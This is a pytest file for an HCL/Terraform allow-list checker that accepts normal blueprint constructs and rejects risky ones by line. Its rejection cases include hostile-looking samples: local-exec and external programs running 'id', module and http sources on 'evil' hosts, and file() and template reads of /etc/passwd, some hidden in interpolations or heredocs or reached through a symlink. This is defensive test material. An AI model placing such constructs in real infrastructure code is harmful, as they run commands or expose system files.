from pathlib import Path

import pytest

from mlopsctl.checks.kinds.hcl_allow_list import violations


def found(folder: Path, text: str, name: str = "main.tf") -> list[str]:
    infra = folder / "infra"
    (infra / "root").mkdir(parents=True, exist_ok=True)
    (infra / "module").mkdir(exist_ok=True)
    (infra / "root" / name).write_text(text)
    return [f"{issue.rule} {issue.where}" for issue in violations(infra)]


@pytest.mark.parametrize(
    "text",
    [
        'terraform {\n  required_providers {\n    aws = { source = "hashicorp/aws" }\n  }\n  backend "s3" {}\n}',
        'provider "aws" {\n  region = "eu-west-1"\n}',
        'resource "aws_s3_bucket" "this" {\n  bucket = lower(join("-", ["a", "b"]))\n}',
        'data "aws_iam_policy_document" "this" {\n  statement {\n    actions = ["s3:GetObject"]\n  }\n}',
        'module "a" {\n  source = "../module"\n}',
        'variable "a" {\n  type = map(object({ b = optional(list(string), []) }))\n}',
        'locals {\n  policy = templatefile("${path.module}/policy.tftpl", { a = 1 })\n}',
        'locals {\n  text = <<-EOT\n    say ${upper("hi")} to my (file) system\n  EOT\n}',
        'locals {\n  literal = "$${file(\\"x\\")}"\n}',
        "",
    ],
)
def test_what_blueprints_need_is_allowed(tmp_path: Path, text: str) -> None:
    assert found(tmp_path, text) == []


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ('resource "null_resource" "x" {}', "resource infra/root/main.tf:1"),
        ('resource "aws_instance" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}', "block *:2"),
        ('\ndata "external" "x" {\n  program = ["id"]\n}', "data *:2"),
        ('data "http" "x" {\n  url = "http://evil"\n}', "data *:1"),
        ('data "aws_caller_identity" "x" {}', "data *:1"),
        ('provider "external" {}', "provider *:1"),
        ('terraform {\n  required_providers {\n    aws = { source = "evil/aws" }\n  }\n}', "provider *:2"),
        ('terraform {\n  required_providers {\n    aws = {\n source = "evil/aws"\n}\n  }\n}', "provider *:2"),
        ("terraform {\n  required_providers {\n    evil = {}\n  }\n}", "provider *:2"),
        ('terraform {\n  backend "http" {}\n}', "block *:2"),
        ("terraform {\n  cloud {}\n}", "block *:2"),
        ('check "x" {\n  data "http" "y" {\n    url = "http://evil"\n  }\n}', "block *:1"),
        ('ephemeral "random_password" "x" {}', "block *:1"),
        ('module "x" {\n  source = "terraform-aws-modules/vpc/aws"\n}', "module *:1"),
        ('module "x" {\n  source = "git::https://evil/x.git"\n}', "module *:1"),
        ('module "x" {\n  source = "../../outside"\n}', "module *:1"),
        ('module "x" {\n  count = 1\n}', "module *:1"),
        ('locals {\n  x = file("/etc/passwd")\n}', "function *:2"),
        ('locals {\n  x = file("${path.module}/../../secret")\n}', "function *:2"),
        ('locals {\n  x = "a ${upper(file("/etc/passwd"))} b"\n}', "function *:2"),
        ('locals {\n  x = [for a in ["b"] : pathexpand("~/${a}")]\n}', "function *:2"),
        ('locals {\n  x = <<EOT\n\n${file("/etc/passwd")}\nEOT\n}', "function *:4"),
        ('locals {\n  x = <<-EOT\n%{ for a in fileset("/", "*") }${a}%{ endfor }\n  EOT\n}', "function *:3"),
        ('locals {\n  x = provider::evil::run("id")\n}', "function *:2"),
        ("locals {\n  x = timestamp()\n}", "function *:2"),
        ('locals {\n  x = templatefile("/etc/passwd", {})\n}', "function *:2"),
        ("locals {\n  x = no_such_function()\n}", "function *:2"),
        ('resource "x {', "syntax infra/root/main.tf"),
    ],
)
def test_what_could_run_or_read_something_is_refused_with_its_line(tmp_path: Path, text: str, says: str) -> None:
    assert says.replace("*", "infra/root/main.tf") in found(tmp_path, text)


@pytest.mark.parametrize("name", ["x.tf.json", "x.tofu", "x.tofu.json"])
def test_files_that_we_cannot_read_are_refused(tmp_path: Path, name: str) -> None:
    assert found(tmp_path, "{}", name) == [f"file infra/root/{name}"]


def test_templates_are_read_too(tmp_path: Path) -> None:
    assert found(tmp_path, 'ok\n${file("/etc/passwd")}', "x.tftpl") == ["function infra/root/x.tftpl:2"]


def test_links_are_refused(tmp_path: Path) -> None:
    (tmp_path / "infra" / "root").mkdir(parents=True)
    (tmp_path / "infra" / "root" / "secret.tf").symlink_to("/etc/passwd")
    assert found(tmp_path, "") == ["file infra/root/secret.tf"]
